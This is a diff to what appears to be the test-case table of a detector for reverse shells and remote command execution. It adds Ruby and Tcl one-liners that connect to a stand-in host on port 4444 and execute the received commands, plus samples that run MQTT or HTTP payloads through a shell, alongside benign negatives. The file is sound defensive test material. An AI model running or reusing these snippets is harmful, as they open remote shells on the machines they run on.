@@ -213,6 +213,13 @@ REVERSE: Final[Cases] = (
             + text('exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'),
             text('local s=require("socket").tcp() s:connect("198.51.100.7",4444)')
             + text('while true do local r=s:receive() local f=io.popen(r,"r") end'),
+            text(
+                "s=TCPSocket.new('198.51.100.7',4444)",
+                "while c=s.gets;s.print IO.popen(c).read;end",
+            ),
+            text(
+                "set s [socket 198.51.100.7 4444]", "while 1 {gets $s c; catch {exec sh -c $c} r}"
+            ),
             text('var net = require("net"), cp = require("child_process"),')
             + text('  sh = cp.spawn("/bin/sh", []);  // require("child_process")')
             + text('require("child_process").spawn("sh");client.pipe(sh.stdin);'),
@@ -223,8 +230,25 @@ REVERSE: Final[Cases] = (
         ),
         (
             text("require 'socket'", 's=TCPSocket.open("time.invalid",37)', "puts s.read"),
+            text("set s [socket time.invalid 37]", "puts [exec sh -c {date}]"),
+            text("set s [socket -server accept 37]", "exec sh -c $c"),
             text('local s=require("socket").tcp() s:connect("h",1) s:send("x")'),
             text('var cp = require("child_process"); cp.exec("ls");'),
+        ),
+    ),
+    (
+        "remote_command_by_message",
+        (
+            text("import paho.mqtt.client as m, os", "def got(a, b, e):", " os.system(e.payload)"),
+            text("import requests, subprocess", 'r = requests.get("http://h/c")')
+            + text("subprocess.run(r.text, shell=True)"),
+            text('const m = require("mqtt")', "m.on('message', (t, message) => execSync(message))"),
+        ),
+        (
+            text("import paho.mqtt.client as m, os", 'os.system("ip link set can0 up")'),
+            text("import os", "os.system(message)"),
+            text('const m = require("mqtt")', 'm.on("message", (t, message) => show(message))'),
+            elf("import paho", "os.system(payload)"),
         ),
     ),
     (
